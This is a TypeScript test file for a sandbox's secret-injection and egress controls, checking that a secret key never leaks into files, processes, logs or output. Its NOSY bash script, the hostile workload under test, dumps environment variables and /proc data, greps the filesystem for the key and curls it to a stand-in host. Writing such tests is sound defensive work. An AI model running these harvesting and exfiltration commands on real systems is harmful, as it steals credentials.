import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { openZoneServer } from '../../../adapters/dns/testing/zone-server.ts';
import { openSandboxAuthority } from '../../../ingress/egress-proxy/sandbox-authority.ts';
import { findSecretBytes, findSecretProcesses, findSecretTexts } from '../../harness/find-bytes.ts';
import { type RunPlace, runPlace } from './run-place.ts';

const VALUE = 'live-Zx81+ThePassphrase/of=Nobody';
const HOST = 'api.secret.example';

type Seen = { readonly headers: Readonly<Record<string, unknown>>; readonly body: string };
type Service = { readonly port: number; readonly ca: string; readonly seen: Seen[] };

/** A service that says back everything it is told: headers, body, in plain and in base64. */
async function echoService(t: TestContext): Promise<Service> {
  const authority = await openSandboxAuthority();
  const seen: Seen[] = [];
  const server = createServer(
    { SNICallback: (name, done) => done(null, authority.contextFor(name)) },
    (request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        const body = Buffer.concat(chunks).toString('latin1');
        seen.push({ headers: request.headers, body });
        const { authorization = '' } = request.headers;
        const [, token = ''] = authorization.split(' ');
        response.setHeader('x-echo', authorization);
        response.end(
          JSON.stringify({
            headers: request.headers,
            coded: Buffer.from(token).toString('base64'),
            hex: Buffer.from(token).toString('hex'),
          }),
        );
      });
    },
  );
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  t.after(() => server.close());
  return { port: (server.address() as AddressInfo).port, ca: authority.certificate, seen };
}

async function secretPlace(t: TestContext): Promise<(RunPlace & { readonly service: Service }) | null> {
  const service = await echoService(t);
  const zone = await openZoneServer((name) => (name === HOST ? ['127.0.0.1'] : 'no-such-name'));
  t.after(() => zone.close());
  const folder = mkdtempSync(join(tmpdir(), 'countersign-ca-'));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  writeFileSync(join(folder, 'ca.pem'), service.ca);
  const rule = { host: `${HOST}:${service.port}`, open_tls: true, addresses: ['127.0.0.0/8'] };
  const egress = { name_servers: [zone.address], trusted_certificates: join(folder, 'ca.pem'), rules: [rule] };
  const place = await runPlace(t, { 'config.yaml': JSON.stringify({ version: 1, egress }) });
  if (place === null) return null;
  await place.client.secrets.set({
    name: 'service-key',
    value: VALUE,
    hosts: [`${HOST}:${service.port}`],
    places: ['header:authorization'],
    methods: ['GET', 'POST'],
    principals: ['agent:*'],
    environment: 'SERVICE_KEY',
  });
  return { ...place, service };
}

/** Prints what it has, looks everywhere, tells all of it to the host it may reach, and has itself told back what it sent. */
const NOSY = `
env; cat /proc/*/environ /proc/*/cmdline /proc/self/maps 2>/dev/null | tr '\\0' '\\n'
grep -rs "live-Zx81" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=node_modules 2>/dev/null
{ env; cat /proc/*/environ; } > seen.txt 2>/dev/null
curl -sS -m 10 --data-binary @seen.txt "$URL/all"
curl -sS -m 10 -D - -H "Authorization: Bearer $SERVICE_KEY" "$URL/echo"
curl -sS -m 10 -H "X-Other: $SERVICE_KEY" "$URL/other"
curl -sS -m 10 "$URL/query?key=$SERVICE_KEY"
kill -SEGV $$
`;

test('a run uses a secret that no file, process, log, event or answer of it ever holds', {
  timeout: 400_000,
}, async (t) => {
  const place = await secretPlace(t);
  if (place === null) return;
  const { root, state, project, run, client, service, daemon } = place;
  const events: string[] = [];
  const watching = new AbortController();
  const watched = (async () => {
    for await (const event of client.events({ signal: watching.signal })) events.push(JSON.stringify(event));
  })().catch(() => undefined);
  const url = `URL=https://${HOST}:${service.port}`;
  const ran = await run(['bash', '-c', NOSY], ['--secret', 'SERVICE_KEY=service-key', '--env', url]);
  watching.abort();
  await watched;
  const used = service.seen.filter(({ headers }) => headers['authorization'] === `Bearer ${VALUE}`);
  assert.equal(used.length, 1, ran.stderr);
  assert.match(ran.stdout, /SERVICE_KEY=/);
  const told = service.seen.filter(({ headers }) => headers['authorization'] === undefined);
  const outputs = {
    stdout: ran.stdout,
    stderr: ran.stderr,
    events: events.join('\n'),
    gateway: daemon.errors(),
    told: JSON.stringify(told),
    log: JSON.stringify(await client.logEntries({ from: 0, limit: 1_000 })),
    runs: JSON.stringify(await client.runs.list()),
  };
  assert.deepEqual(findSecretTexts([VALUE], outputs), []);
  assert.deepEqual(findSecretBytes([VALUE], [root, project, state]), []);
  assert.deepEqual(findSecretProcesses([VALUE], [daemon.process.pid ?? 0]), []);
  assert.match(readFileSync(`/proc/${daemon.process.pid}/limits`, 'utf8'), /Max core file size +0 +0/);
});

test('a sentinel is worth nothing elsewhere, and never leaves as it is', { timeout: 400_000 }, async (t) => {
  const place = await secretPlace(t);
  if (place === null) return;
  const { run, service } = place;
  const url = `URL=https://${HOST}:${service.port}`;
  const line = 'curl -sS -m 10 -o /dev/null -w "%{http_code}\\n" -H "X-Other: $SERVICE_KEY" "$URL/other"';
  const ran = await run(['bash', '-c', line], ['--secret', 'SERVICE_KEY=service-key', '--env', url]);
  assert.match(ran.stdout, /403/);
  assert.deepEqual(service.seen, []);
});
